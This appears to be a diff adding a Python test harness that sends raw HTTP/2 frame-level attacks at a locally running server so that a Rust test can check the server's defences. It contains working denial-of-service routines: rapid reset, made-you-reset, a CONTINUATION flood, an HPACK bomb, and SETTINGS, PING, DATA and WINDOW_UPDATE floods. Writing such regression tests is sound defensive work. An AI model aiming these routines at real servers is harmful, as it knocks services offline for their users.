@@ -1,0 +1,198 @@
+#!/usr/bin/python3
+"""HTTP/2 abuse against a running portier, frame by frame (raw frames over
+TLS with ALPN h2; HPACK from Debian's python3-hpack). Prints one JSON object
+with what the server did; the Rust test asserts on it.
+
+usage: attacks.py PORT AUTHORITY ATTACK
+"""
+import json
+import socket
+import ssl
+import struct
+import sys
+import time
+
+import hpack
+
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
+END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
+ENHANCE_YOUR_CALM, REFUSED_STREAM, PROTOCOL_ERROR, CANCEL = 0xB, 0x7, 0x1, 0x8
+
+
+def frame(ftype, flags, stream, payload=b""):
+    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(">I", stream) + payload
+
+
+class Conn:
+    def __init__(self, port, authority):
+        ctx = ssl.create_default_context()
+        ctx.check_hostname = False
+        ctx.verify_mode = ssl.CERT_NONE
+        ctx.set_alpn_protocols(["h2"])
+        raw = socket.create_connection(("127.0.0.1", port), timeout=10)
+        self.s = ctx.wrap_socket(raw, server_hostname=authority)
+        assert self.s.selected_alpn_protocol() == "h2", self.s.selected_alpn_protocol()
+        self.authority = authority
+        self.enc = hpack.Encoder()
+        self.dec = hpack.Decoder()
+        self.buf = b""
+        self.s.sendall(PREFACE + frame(SETTINGS, 0, 0))
+
+    def send(self, data):
+        try:
+            self.s.sendall(data)
+            return True
+        except OSError:
+            return False
+
+    def headers_block(self, path="/", extra=()):
+        fields = [(":method", "GET"), (":scheme", "https"), (":authority", self.authority), (":path", path)]
+        fields.extend(extra)
+        return self.enc.encode(fields)
+
+    def request(self, stream, path="/", end_stream=True, extra=()):
+        flags = END_HEADERS | (END_STREAM if end_stream else 0)
+        return frame(HEADERS, flags, stream, self.headers_block(path, extra))
+
+    def read_frames(self, seconds):
+        """Frames until the connection closes or `seconds` pass."""
+        out = []
+        deadline = time.time() + seconds
+        self.s.settimeout(0.2)
+        while time.time() < deadline:
+            try:
+                chunk = self.s.recv(65536)
+            except socket.timeout:
+                continue
+            except (ssl.SSLError, OSError):
+                out.append(("closed", 0, 0, b""))
+                break
+            if not chunk:
+                out.append(("closed", 0, 0, b""))
+                break
+            self.buf += chunk
+            while len(self.buf) >= 9:
+                length = int.from_bytes(self.buf[:3], "big")
+                if len(self.buf) < 9 + length:
+                    break
+                ftype, flags = self.buf[3], self.buf[4]
+                stream = int.from_bytes(self.buf[5:9], "big") & 0x7FFFFFFF
+                payload = self.buf[9 : 9 + length]
+                self.buf = self.buf[9 + length :]
+                out.append((ftype, flags, stream, payload))
+                if ftype == SETTINGS and not flags & ACK:
+                    self.send(frame(SETTINGS, ACK, 0))
+        return out
+
+
+def summary(frames):
+    goaway = [f for f in frames if f[0] == GOAWAY]
+    rst = [f for f in frames if f[0] == RST_STREAM]
+    headers = [f for f in frames if f[0] == HEADERS]
+    return {
+        "goaway_code": int.from_bytes(goaway[0][3][4:8], "big") if goaway else None,
+        "rst_codes": sorted({int.from_bytes(f[3][:4], "big") for f in rst}),
+        "rst_count": len(rst),
+        "responses": len(headers),
+        "closed": any(f[0] == "closed" for f in frames),
+    }
+
+
+def statuses(conn, frames):
+    out = {}
+    for f in frames:
+        if f[0] == HEADERS:
+            fields = dict(conn.dec.decode(f[3]))
+            out[f[2]] = fields.get(":status")
+    return out
+
+
+def main():
+    port, authority, attack = int(sys.argv[1]), sys.argv[2], sys.argv[3]
+    c = Conn(port, authority)
+    result = {}
+    if attack == "rapid_reset":
+        # CVE-2023-44487: open and cancel streams as fast as possible.
+        sent = 0
+        for i in range(5000):
+            sid = 1 + 2 * i
+            ok = c.send(c.request(sid, "/slow/500") + frame(RST_STREAM, 0, sid, struct.pack(">I", CANCEL)))
+            if not ok:
+                break
+            sent += 1
+        result = summary(c.read_frames(3))
+        result["sent"] = sent
+    elif attack == "made_you_reset":
+        # CVE-2025-8671: make the server reset streams (zero WINDOW_UPDATE).
+        for i in range(5000):
+            sid = 1 + 2 * i
+            if not c.send(c.request(sid, "/slow/500", end_stream=False) + frame(WINDOW_UPDATE, 0, sid, struct.pack(">I", 0))):
+                break
+        result = summary(c.read_frames(3))
+    elif attack == "continuation_flood":
+        # CVE-2024-27316: a header block that never ends.
+        block = c.headers_block("/")
+        c.send(frame(HEADERS, 0, 1, block))
+        junk = c.enc.encode([("x-filler", "a" * 1000)])
+        sent = 0
+        for _ in range(10000):
+            if not c.send(frame(CONTINUATION, 0, 1, junk)):
+                break
+            sent += 1
+        result = summary(c.read_frames(3))
+        result["continuations_sent"] = sent
+    elif attack == "hpack_bomb":
+        # One 4 KB value in the dynamic table, then a block referencing it
+        # many times: tiny on the wire, huge decoded.
+        big = "b" * 4000
+        first = c.enc.encode([(":method", "GET"), (":scheme", "https"), (":authority", authority), (":path", "/"), ("x-bomb", big)])
+        c.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, first))
+        # Indexed field 62 (first dynamic entry) repeated: 1 byte each.
+        bomb = c.enc.encode([(":method", "GET"), (":scheme", "https"), (":authority", authority), (":path", "/")]) + bytes([0x80 | 62]) * 2000
+        c.send(frame(HEADERS, END_HEADERS | END_STREAM, 3, bomb))
+        frames = c.read_frames(3)
+        result = summary(frames)
+        result["statuses"] = {str(k): v for k, v in statuses(c, frames).items()}
+    elif attack == "settings_flood":
+        for _ in range(20000):
+            if not c.send(frame(SETTINGS, 0, 0)):
+                break
+        result = summary(c.read_frames(3))
+    elif attack == "ping_flood":
+        for i in range(20000):
+            if not c.send(frame(PING, 0, 0, struct.pack(">Q", i))):
+                break
+        result = summary(c.read_frames(3))
+    elif attack == "empty_data_flood":
+        c.send(c.request(1, "/slow/2000", end_stream=False))
+        for _ in range(20000):
+            if not c.send(frame(DATA, 0, 1, b"")):
+                break
+        result = summary(c.read_frames(3))
+    elif attack == "window_update_flood":
+        for _ in range(20000):
+            if not c.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))):
+                break
+        result = summary(c.read_frames(3))
+    elif attack == "too_many_streams":
+        # 101 concurrent streams with SETTINGS_MAX_CONCURRENT_STREAMS = 100.
+        data = b"".join(c.request(1 + 2 * i, "/slow/700") for i in range(101))
+        c.send(data)
+        frames = c.read_frames(4)
+        result = summary(frames)
+        st = statuses(c, frames)
+        result["ok"] = sum(1 for v in st.values() if v == "200")
+    elif attack == "never_reads":
+        # Ask for 20 x 1 MB and read nothing for a while; then check the
+        # server still answers another connection (the test does that).
+        c.send(b"".join(c.request(1 + 2 * i, "/bytes/1000000") for i in range(20)))
+        time.sleep(2)
+        result = {"sent": 20}
+    else:
+        raise SystemExit(f"unknown attack {attack}")
+    print(json.dumps(result))
+
+
+if __name__ == "__main__":
+    main()
